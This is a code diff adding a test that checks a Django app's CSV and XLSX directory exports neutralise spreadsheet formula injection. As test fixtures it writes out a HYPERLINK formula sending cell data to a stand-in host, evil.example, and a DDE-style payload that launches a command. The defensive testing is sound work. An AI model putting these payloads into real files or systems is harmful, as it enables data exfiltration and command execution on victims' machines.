@@ -121,3 +121,23 @@ def test_benchmark_csv_and_xlsx(client, precomputed, lang, django_assert_max_num
     assert share_cell.number_format == "0.0%"
     assert cells[start + 1][3].number_format == "#,##0" and isinstance(cells[start + 1][3].value, int)
     assert cells[0][0].value.startswith("Millésime" if lang == "fr" else "SIRENE release")
+
+
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1, "Cliquez ici")'
+
+
+def test_formula_in_a_name_is_neither_run_in_csv_nor_live_in_xlsx(client, precomputed):
+    """Issue 16 §6: an establishment named like a formula is exported as text (directory CSV and XLSX)."""
+    from essor.observatory.tests.factories import EssEstablishmentFactory
+
+    EssEstablishmentFactory(release=precomputed, name=EVIL, address="@SUM(1+1)*cmd|' /C calc'!A0")
+    raw = body_of(client.get(DIRECTORY.format(lang="fr", fmt="csv")))
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
+    evil_rows = [row for row in rows if EVIL in row[1]]
+    assert len(evil_rows) == 1 and evil_rows[0][1] == "'" + EVIL
+    assert not any(cell.startswith(("=", "@")) for row in rows for cell in row)
+
+    workbook = load_workbook(io.BytesIO(client.get(DIRECTORY.format(lang="fr", fmt="xlsx")).content))
+    cells = [cell for row in workbook[workbook.sheetnames[0]].iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no live formula anywhere
+    assert "'" + EVIL in {cell.value for cell in cells}
